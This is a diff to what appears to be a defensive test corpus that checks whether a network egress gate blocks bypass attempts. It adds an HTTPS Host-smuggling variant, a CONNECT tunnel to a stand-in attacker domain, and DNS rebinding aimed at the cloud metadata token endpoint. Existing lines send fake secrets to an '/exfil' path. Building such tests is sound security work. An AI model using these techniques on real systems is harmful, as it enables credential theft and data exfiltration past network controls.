@@ -389,7 +389,8 @@ def t30(w):
 
 
 def _smuggle_https(w: World, name: str, sni: str, host: str,
-                   target: str = "/exfil?d=s3cr3t") -> str:
+                   target: str = "/exfil?d=s3cr3t",
+                   method: str = "GET") -> str:
     """Handshake with an ALLOWED SNI, then smuggle a foreign Host."""
     import ssl
 
@@ -403,7 +404,7 @@ def _smuggle_https(w: World, name: str, sni: str, host: str,
     try:
         ctx = ssl.create_default_context(cafile=str(w.ca_bundle))
         tls = ctx.wrap_socket(sock, server_hostname=sni)
-        tls.sendall(f"GET {target} HTTP/1.1\r\nhost: {host}\r\n"
+        tls.sendall(f"{method} {target} HTTP/1.1\r\nhost: {host}\r\n"
                     "connection: close\r\n\r\n".encode())
         out = b""
         try:
@@ -465,6 +466,34 @@ def t33(w):
     return _smuggle_https(w, "33-absolute-uri-authority",
                           "api.mitm.example.net", "api.mitm.example.net",
                           target=f"http://{ATTACKER_DOMAIN}/exfil")
+
+
+@technique("34-dns-rebinding")
+def t34(w):
+    """An ALLOWED zone whose (attacker-run) DNS answers a link-local
+    metadata address: the gate must refuse the answer -- a cached
+    ip->zone entry would open a kernel route to 169.254.169.254."""
+    meta_ip = "169.254.169.254"
+    w.dns_table["meta.example.com"] = meta_ip        # hostile upstream A
+    # if the rebound address ever becomes reachable, the bytes land on
+    # attacker-visible infrastructure (the metadata thief's collector)
+    w.endpoints[(meta_ip, 80)] = ("127.0.0.1", w.attacker.http_port)
+    w.attacker.set_technique("34-dns-rebinding")
+    rcode, ips = w.dig("meta.example.com")
+    if rcode == 0 and ips:
+        return _try_tcp(w, "34-dns-rebinding", ips[0], 80,
+                        b"GET /computeMetadata/v1/token HTTP/1.1\r\n\r\n")
+    verdict = _try_tcp(w, "34-dns-rebinding", meta_ip, 80)
+    return f"rebind answer refused (rcode={rcode}); direct: {verdict}"
+
+
+@technique("35-connect-tunnel")
+def t35(w):
+    """HTTP CONNECT through the MITM lane must not open a raw tunnel."""
+    return _smuggle_https(w, "35-connect-tunnel", "api.mitm.example.net",
+                          f"{ATTACKER_DOMAIN}:443",
+                          target=f"{ATTACKER_DOMAIN}:443",
+                          method="CONNECT")
 
 
 def run_corpus(base: Path) -> dict:
